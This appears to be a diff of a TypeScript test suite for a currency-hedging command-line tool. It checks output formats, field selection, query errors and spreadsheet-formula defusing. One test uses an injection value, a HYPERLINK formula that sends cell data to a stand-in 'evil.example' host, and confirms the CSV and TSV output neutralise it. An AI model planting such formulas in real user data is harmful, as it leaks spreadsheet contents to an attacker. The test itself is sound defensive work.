@@ -146,7 +146,6 @@ const LISTS: Record<string, List> = {
     columns: HISTORY_COLUMNS,
     // Realized P&L totals: a row in the table, stderr in plain mode, absent from the data.
     more: ({ records, plain, tty }) => {
-      expect(records).toHaveLength(3);
       expect(plain.stdout).not.toMatch(/total/i);
       const netTotal = Math.round(records.reduce((sum, r) => sum + r.net_pnl_usd * 100, 0)) / 100;
       expect(plain.stderr).toContain(`Total (3 hedges)\t`);
@@ -188,7 +187,7 @@ const LISTS: Record<string, List> = {
 
 describe.each(Object.keys(LISTS))('%s', (command) => {
   const { schema, wire, columns, more } = LISTS[command];
-  it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns; the table is its snapshot', async () => {
+  it('json is the data as the API answered; tsv, csv and ndjson carry the same records in the documented columns; the table is its snapshot; --fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
     const [{ json, plain, tty }, csv, ndjson, bare] = await Promise.all([
       inAllModes(command, schema, command === 'positions' ? undefined : wire),
       ok(`${command} --format csv`),
@@ -210,22 +209,18 @@ describe.each(Object.keys(LISTS))('%s', (command) => {
     ]);
     await more?.({ records, plain, tty });
     expect(tty.stdout).toMatchSnapshot();
-  });
 
-  if (command === 'price USDTNGN') return;
-  it('--fields picks and orders columns in tsv, csv and json; --query reshapes the JSON', async () => {
+    if (command === 'price USDTNGN') return;
     const [second, first] = [columns[2], columns[0]];
-    const [json, tsv, csv, fieldsJson, query, queryNd] = await Promise.all([
-      ok(`${command} --json`),
+    const [tsv, pickedCsv, fieldsJson, query, queryNd] = await Promise.all([
       ok(`${command} --fields ${second},${first}`),
       ok(`${command} --fields ${second},${first} --format csv --no-header`),
       ok(`${command} --fields ${second},${first} --json`),
       ok(`${command} --query [].${first}`),
       ok([command, '--query', `[].{a: ${first}}`, '--format', 'ndjson']),
     ]);
-    const records = JSON.parse(json);
     const pairs = records.map((record: any) => [cell(columnValue(record, second)), cell(columnValue(record, first))]);
-    expect([tsvRows(tsv), parse(csv)]).toEqual([[[second, first], ...pairs], pairs]);
+    expect([tsvRows(tsv), parse(pickedCsv)]).toEqual([[[second, first], ...pairs], pairs]);
     const picked = JSON.parse(fieldsJson);
     expect([
       [
@@ -241,129 +236,122 @@ describe.each(Object.keys(LISTS))('%s', (command) => {
   });
 });
 
-describe('records in every output mode', () => {
-  it('quote USDTNGN buy 10000 --tenor 3 (the example, exactly as typed)', async () => {
-    const { json, plain, tty, data: quote } = await inAllModes('quote USDTNGN buy 10000 --tenor 3', quoteSchema);
-    expect(quote).toEqual(await apiData(simulator, 'POST', '/quotes', openBody('buy', 10_000, 3)));
-    const [rows, ...more] = tsvRecords(plain.stdout);
-    expect(more).toEqual([]);
-    expect(rows).toMatchObject({
-      market: 'USDTNGN',
-      side: 'buy',
-      notional_usd: '10000',
-      tenor_days: '3',
-      'pricing.market_price': String(quote.pricing.market_price),
-      'pricing.execution_price': String(quote.pricing.execution_price),
-      'pricing.price_impact_usd': String(quote.pricing.price_impact_usd),
-      'carry.daily_usdc': String(quote.carry.daily_usdc),
-      'carry.total_rate_pct': String(quote.carry.total_rate_pct),
-      'upfront.total_upfront_usdc': String(quote.upfront.total_upfront_usdc),
-      maturity: quote.maturity,
-    });
-    expect(Number(rows.price_impact_bps)).toBeCloseTo((quote.pricing.price_impact_usd / 10_000) * 10_000, 2);
-    expect(plain.stderr).toContain('reserves nothing');
-    expect(json.stderr).toBe('');
-    expect(tty.stdout).toContain('reserves nothing');
-    expect(tty.stdout).toMatchSnapshot();
+it('records in every output mode: quote USDTNGN buy 10000 --tenor 3 (the example, exactly as typed)', async () => {
+  const { json, plain, tty, data: quote } = await inAllModes('quote USDTNGN buy 10000 --tenor 3', quoteSchema);
+  expect(quote).toEqual(await apiData(simulator, 'POST', '/quotes', openBody('buy', 10_000, 3)));
+  const [rows, ...more] = tsvRecords(plain.stdout);
+  expect(more).toEqual([]);
+  expect(rows).toMatchObject({
+    market: 'USDTNGN',
+    side: 'buy',
+    notional_usd: '10000',
+    tenor_days: '3',
+    'pricing.market_price': String(quote.pricing.market_price),
+    'pricing.execution_price': String(quote.pricing.execution_price),
+    'pricing.price_impact_usd': String(quote.pricing.price_impact_usd),
+    'carry.daily_usdc': String(quote.carry.daily_usdc),
+    'carry.total_rate_pct': String(quote.carry.total_rate_pct),
+    'upfront.total_upfront_usdc': String(quote.upfront.total_upfront_usdc),
+    maturity: quote.maturity,
   });
-
-  it('hedges ID shows one hedge in full: a header row of the documented columns and one row in tsv and csv, tx hashes whole there, shortened on screen', async () => {
-    const [{ plain, tty, data: hedge }, csv] = await Promise.all([
-      inAllModes(`hedges ${buyId}`, hedgeSchema, `/hedges/${buyId}`),
-      ok(`hedges ${buyId} --format csv`),
-    ]);
-    const [header, row, ...more] = tsvRows(plain.stdout);
-    // Every field the hedge has, and the known ones it lacks as empty cells (closed_at: still open).
-    expect([more, header, [...header].sort(), row, parse(csv)]).toEqual([
-      [],
-      HEDGE_COLUMNS,
-      [...Object.keys(hedge), 'closed_at'].sort(),
-      header.map((key) => cell(hedge[key])),
-      [header, row],
-    ]);
-    expect(hedge.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
-    for (const hash of [hedge.order_tx_hash!, hedge.fill_tx_hash!, hedge.order_key!]) {
-      expect(tty.stdout).not.toContain(hash);
-      expect(tty.stdout).toContain(`${hash.slice(0, 6)}…${hash.slice(-4)}`);
-    }
-    expect(tty.stdout).toMatchSnapshot();
-  });
-
-  it('account: a header row of keys and one row, in tsv and csv', async () => {
-    const [{ plain, tty, data: account }, csv] = await Promise.all([
-      inAllModes('account', accountSchema, '/account'),
-      ok('account --format csv'),
-    ]);
-    const [header, row, ...more] = tsvRows(plain.stdout);
-    expect([more, header, row, row[4], parse(csv)]).toEqual([
-      [],
-      'balance_usdc margin_in_use_usdc open_exposure_usd unrealized_pnl_usd open_positions available_exposure_usd exposure_cap_usd'.split(
-        ' ',
-      ),
-      header.map((key) => cell(account[key])),
-      '1',
-      [header, row],
-    ]);
-    expect(tty.stdout).toMatchSnapshot();
-  });
+  expect(Number(rows.price_impact_bps)).toBeCloseTo((quote.pricing.price_impact_usd / 10_000) * 10_000, 2);
+  expect(plain.stderr).toContain('reserves nothing');
+  expect(json.stderr).toBe('');
+  expect(tty.stdout).toContain('reserves nothing');
+  expect(tty.stdout).toMatchSnapshot();
 });
 
-describe('refusals', () => {
-  it('an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty', async () => {
-    for (const format of ['tsv', 'csv', 'json', 'table']) {
-      const result = await hedge(`hedges --fields id,nope --format ${format}`);
-      expect(result.code, format).toBe(2);
-      expect(result.stdout).toBe('');
-      // Under --format json the error is JSON on stderr too.
-      expect(format === 'json' ? JSON.parse(result.stderr).error.message : result.stderr).toContain(
-        '--fields: "nope" is not a field here; available: id, client_reference, market, side,',
-      );
-    }
-  });
-
-  it('a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
-    const before = simulator.sandbox.requestLog.length;
-    const [syntax, unknownFunction, asJson] = await Promise.all([
-      hedge('hedges --query [?status=='),
-      hedge('positions --query nosuch(@)'),
-      hedge('positions --query nosuch(@) --json'),
-    ]);
-    for (const result of [syntax, unknownFunction, asJson]) {
-      exits(result, 2);
-      expect(result.stdout).toBe('');
-    }
-    // --query makes the data JSON, not the errors: without --json the refusal is one human line.
-    expect(syntax.stderr).toMatch(
-      /^hedge: --query "\[\?status==": .*; expected a JMESPath expression \(https:\/\/jmespath\.site\)\.\n$/,
-    );
-    expect(unknownFunction.stderr).toBe(
-      'hedge: --query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).\n',
-    );
-    expect(JSON.parse(asJson.stderr).error).toMatchObject({
-      code: 'usage',
-      message:
-        '--query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).',
-    });
-    expect(simulator.sandbox.requestLog.length).toBe(before);
-  });
+it('records in every output mode: hedges ID shows one hedge in full: a header row of the documented columns and one row in tsv and csv, tx hashes whole there, shortened on screen', async () => {
+  const [{ plain, tty, data: hedge }, csv] = await Promise.all([
+    inAllModes(`hedges ${buyId}`, hedgeSchema, `/hedges/${buyId}`),
+    ok(`hedges ${buyId} --format csv`),
+  ]);
+  const [header, row, ...more] = tsvRows(plain.stdout);
+  // Every field the hedge has, and the known ones it lacks as empty cells (closed_at: still open).
+  expect([more, header, [...header].sort(), row, parse(csv)]).toEqual([
+    [],
+    HEDGE_COLUMNS,
+    [...Object.keys(hedge), 'closed_at'].sort(),
+    header.map((key) => cell(hedge[key])),
+    [header, row],
+  ]);
+  expect(hedge.order_tx_hash).toMatch(/^0x[0-9a-f]{64}$/);
+  for (const hash of [hedge.order_tx_hash!, hedge.fill_tx_hash!, hedge.order_key!]) {
+    expect(tty.stdout).not.toContain(hash);
+    expect(tty.stdout).toContain(`${hash.slice(0, 6)}…${hash.slice(-4)}`);
+  }
+  expect(tty.stdout).toMatchSnapshot();
 });
 
-describe('cells a spreadsheet would run as formulas (a deal reference is the user’s text)', () => {
-  it('TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
-    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
-    await withSimulator({}, async (own) => {
-      succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
-      expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
-      const fields = '--fields client_reference,notional_usd';
-      const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
-      const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
-      expect([tsv.stdout.trimEnd().split('\n'), parse(csv.stdout)]).toEqual([
-        ['client_reference\tnotional_usd', `'${formula}\t1000`],
-        [
-          ['client_reference', 'notional_usd'],
-          [`'${formula}`, '1000'],
-        ],
-      ]);
-    });
+it('records in every output mode: account: a header row of keys and one row, in tsv and csv', async () => {
+  const [{ plain, tty, data: account }, csv] = await Promise.all([
+    inAllModes('account', accountSchema, '/account'),
+    ok('account --format csv'),
+  ]);
+  const [header, row, ...more] = tsvRows(plain.stdout);
+  expect([more, header, row, row[4], parse(csv)]).toEqual([
+    [],
+    'balance_usdc margin_in_use_usdc open_exposure_usd unrealized_pnl_usd open_positions available_exposure_usd exposure_cap_usd'.split(
+      ' ',
+    ),
+    header.map((key) => cell(account[key])),
+    '1',
+    [header, row],
+  ]);
+  expect(tty.stdout).toMatchSnapshot();
+});
+
+it('refusals: an unknown --fields name is exit 2 naming it and the fields there are; stdout stays empty', async () => {
+  for (const format of ['tsv', 'csv', 'json', 'table']) {
+    const result = await hedge(`hedges --fields id,nope --format ${format}`);
+    expect(result.code, format).toBe(2);
+    expect(result.stdout).toBe('');
+    // Under --format json the error is JSON on stderr too.
+    expect(format === 'json' ? JSON.parse(result.stderr).error.message : result.stderr).toContain(
+      '--fields: "nope" is not a field here; available: id, client_reference, market, side,',
+    );
+  }
+});
+
+it('refusals: a bad --query is exit 2 naming --query, before any request: one line for a person, the JSON error only with --json', async () => {
+  const before = simulator.sandbox.requestLog.length;
+  const [syntax, unknownFunction, asJson] = await Promise.all([
+    hedge('hedges --query [?status=='),
+    hedge('positions --query nosuch(@)'),
+    hedge('positions --query nosuch(@) --json'),
+  ]);
+  for (const result of [syntax, unknownFunction, asJson]) {
+    exits(result, 2);
+    expect(result.stdout).toBe('');
+  }
+  // --query makes the data JSON, not the errors: without --json the refusal is one human line.
+  expect(syntax.stderr).toMatch(
+    /^hedge: --query "\[\?status==": .*; expected a JMESPath expression \(https:\/\/jmespath\.site\)\.\n$/,
+  );
+  expect(unknownFunction.stderr).toBe(
+    'hedge: --query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).\n',
+  );
+  expect(JSON.parse(asJson.stderr).error).toMatchObject({
+    code: 'usage',
+    message: '--query "nosuch(@)": unknown function nosuch(); expected a JMESPath expression (https://jmespath.site).',
+  });
+  expect(simulator.sandbox.requestLog.length).toBe(before);
+});
+
+it('cells a spreadsheet would run as formulas (a deal reference is the user’s text): TSV defuses them exactly as CSV does: a leading quote, numbers left alone', async () => {
+  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+  await withSimulator({}, async (own) => {
+    succeeded(await own.hedge(`open USDTNGN sell 1000 --tenor 3 --ref ${formula} --json`));
+    expect(own.hedges().map((hedge) => hedge.clientReference)).toEqual([formula]);
+    const fields = '--fields client_reference,notional_usd';
+    const tsv = succeeded(await own.hedge(`hedges --format tsv ${fields}`));
+    const csv = succeeded(await own.hedge(`hedges --format csv ${fields}`));
+    expect([tsv.stdout.trimEnd().split('\n'), parse(csv.stdout)]).toEqual([
+      ['client_reference\tnotional_usd', `'${formula}\t1000`],
+      [
+        ['client_reference', 'notional_usd'],
+        [`'${formula}`, '1000'],
+      ],
+    ]);
   });
 });
